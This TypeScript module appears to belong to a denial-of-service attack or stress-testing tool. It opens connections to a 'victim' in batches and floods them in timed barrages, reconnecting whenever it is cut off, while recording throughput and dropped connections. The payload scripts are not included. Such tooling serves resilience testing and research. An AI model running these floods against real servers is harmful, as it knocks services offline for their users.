/** Many connections of one attacker. */

import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import type { Figures, Target } from './attack.js';

/** How many connections are begun at once, so that the system's own queue of them drops none. */
const AT_ONCE = 100;

/** Connects; undefined where that is refused. What the victim says is thrown away, unless it is not even read. */
export function connected(target: Target, { reads = true } = {}): Promise<Socket | undefined> {
  return new Promise((resolve) => {
    const socket = connect({ ...target, noDelay: true });
    // The close that follows says all there is to say.
    socket.on('error', () => {});
    socket.once('close', () => resolve(undefined));
    socket.once('connect', () => {
      if (reads) socket.resume();
      else socket.pause();
      resolve(socket);
    });
  });
}

/** Makes many of something, some at once. */
export async function many<T>(count: number, make: () => Promise<T>): Promise<T[]> {
  const all: T[] = [];
  while (all.length < count) {
    const lot = Array.from({ length: Math.min(AT_ONCE, count - all.length) }, make);
    all.push(...(await Promise.all(lot)));
  }
  return all;
}

/** Connects many times. Gives those that the victim took. */
export async function throng(target: Target, count: number): Promise<Socket[]> {
  const sockets = await many(count, () => connected(target));
  return sockets.filter((socket) => socket !== undefined);
}

/** How many of some connections the victim has closed. */
export function cut(sockets: readonly Socket[]): number {
  return sockets.filter(({ destroyed }) => destroyed).length;
}

/** Writes where the connection is still there. */
export function write(socket: Socket | undefined, ...pieces: readonly Buffer[]): void {
  if (socket?.destroyed === false) socket.write(Buffer.concat(pieces));
}

/** Writes, and resolves once more can be written or the connection is gone; never before others had their turn. */
async function pushed(socket: Socket, bytes: Buffer): Promise<void> {
  if (socket.write(bytes)) return new Promise(setImmediate);
  return new Promise((resolve) => {
    const done = (): void => {
      socket.off('drain', done).off('close', done);
      resolve();
    };
    socket.on('drain', done).on('close', done);
  });
}

/** What each connection of a barrage says, piece by piece. */
export type Script = () => Generator<Buffer, void>;

/**
 * Some connections that each say a script as fast as the victim takes it. Whoever is done waits until the time is over; whoever is cut off
 * comes again and begins anew. Resolves when the time is over.
 */
export async function barrage(
  target: Target,
  script: Script,
  { connections, ms, reads = true }: { connections: number; ms: number; reads?: boolean },
  inPlace: () => void,
): Promise<Figures> {
  const open = new Set<Socket>();
  const done = { connections: 0, 'cut off': 0, MiB: 0 };
  let isOver = false;
  const one = async (): Promise<void> => {
    while (!isOver) {
      done.connections++;
      const socket = await connected(target, { reads });
      if (socket === undefined) continue;
      open.add(socket);
      const closed = new Promise((resolve) => socket.once('close', resolve));
      for (const bytes of script()) {
        if (socket.destroyed) break;
        done.MiB += bytes.length / 1_048_576;
        await pushed(socket, bytes);
      }
      await closed;
      open.delete(socket);
      if (!isOver) done['cut off']++;
    }
  };
  const all = Array.from({ length: connections }, one);
  // The first burst of all of them together is over soon.
  await sleep(ms / 5);
  inPlace();
  await sleep(ms);
  isOver = true;
  for (const socket of open) socket.destroy();
  await Promise.all(all);
  return done;
}
